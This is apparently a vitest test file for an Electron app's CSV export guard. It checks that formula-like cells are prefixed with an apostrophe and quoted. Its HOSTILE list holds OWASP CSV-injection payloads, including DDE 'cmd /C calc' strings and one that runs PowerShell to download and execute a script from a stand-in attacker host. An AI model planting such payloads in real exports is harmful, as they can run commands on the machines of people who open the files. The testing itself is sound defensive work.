// The formula guard of both CSV exports (the job history's and a batch's), against OWASP's CSV injection
// cases: each export's real text parsed back, every hostile cell kept whole but starting with an apostrophe
// (so no spreadsheet runs it), and quoted; ordinary text left alone, negative numbers guarded as always.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { batchTable, tableCsv } from '../../../electron/core/batches/batch-export';
import { jobsCsv } from '../../../electron/core/jobs/csv-export';
import type { JobView } from '../../../electron/shared/domain/job';

/** OWASP's payloads, and the same ones behind what a spreadsheet skips before it looks for a formula. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")A0',
  "=cmd|'/C powershell IEX(wget attacker/s.ps1)'!A0",
  '\tleading tab',
  '\rleading carriage return',
  '\n=1+1',
  '\r\n=1+1',
  '   =1+1',
  '\t=HYPERLINK("http://evil.example","Click")',
  ' \n @SUM(1+1)',
  '\u00a0=1+1',
  '\u200b+1+1',
  '\u3000\uff1d1+1',
];

const HARMLESS = ['Hello', ' spaced text ', 'a-b', 'mail@example.com', '1+1', 'x=1', "'already text", ''];

function parse(csv: string): string[][] {
  expect(csv.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<string[]>(csv.slice(1), { newline: '\r\n' });
  expect(parsed.errors).toEqual([]);
  return parsed.data.filter((row) => row.length > 1 || row[0] !== '');
}

function job(values: Record<string, unknown>, creditUsed: number | null = null): JobView {
  return {
    id: 'j1',
    uuid: null,
    accountId: 'a',
    projectId: 'p',
    projectName: 'Project',
    jobType: 'image',
    status: null,
    tracking: 'active',
    trackingNote: null,
    values,
    summary: '',
    createdAt: '2026-01-01T00:00:00Z',
    updatedAt: null,
    finishedAt: null,
    creditUsed,
    outputPath: null,
    error: null,
    batchId: null,
    batchRow: null,
    expectedAt: null,
    archived: false,
    submittedBy: null,
  };
}

/** The cells of one column of a job export, one job per value. */
function jobExportColumn(cells: readonly unknown[]): string[] {
  const rows = parse(jobsCsv(cells.map((cell) => job({ headline: cell }))));
  const column = rows[0]!.indexOf('value: headline');
  return rows.slice(1).map((row) => row[column]!);
}

/** The cells of the sheet's one column as the batch export writes it back. */
function batchExportColumn(cells: readonly string[]): string[] {
  const table = batchTable({ columns: ['Headline'], rows: cells.map((cell) => [cell]) }, [], new Map());
  // The first column is the row's number in the sheet; the sheet's own column follows.
  return parse(tableCsv(table))
    .slice(1)
    .map((row) => row[1]!);
}

describe.each([
  ['job export', jobExportColumn],
  ['batch export', batchExportColumn],
])('the %s', (_name, column) => {
  it('starts every cell a spreadsheet would run with an apostrophe, whatever comes before its =, +, - or @', () => {
    expect(column(HOSTILE)).toEqual(HOSTILE.map((cell) => `'${cell}`));
  });

  it('leaves ordinary text as it is', () => {
    expect(column(HARMLESS)).toEqual(HARMLESS);
  });

  it('guards negative numbers as it always did: "-1" is written as the text \'-1', () => {
    expect(column(['-1', '-0.5'])).toEqual(["'-1", "'-0.5"]);
  });
});

it('quotes every guarded cell in the text written, so the apostrophe and the payload stay one field', () => {
  const csv = tableCsv([['Headline'], ['   =1+1'], ['+1+1'], ['plain']]);
  expect(csv).toContain(`"'   =1+1"`);
  expect(csv).toContain(`"'+1+1"`);
  expect(csv).toContain('\r\nplain\r\n');
});

it('guards the numbers the job export writes itself (credits, numeric values) as it always did', () => {
  const rows = parse(jobsCsv([job({ start: -1, volume: 0.5 }, -2)]));
  const [header, row] = rows;
  expect(row![header!.indexOf('credits')]).toBe("'-2");
  expect(row![header!.indexOf('value: start')]).toBe("'-1");
  expect(row![header!.indexOf('value: volume')]).toBe('0.5');
});
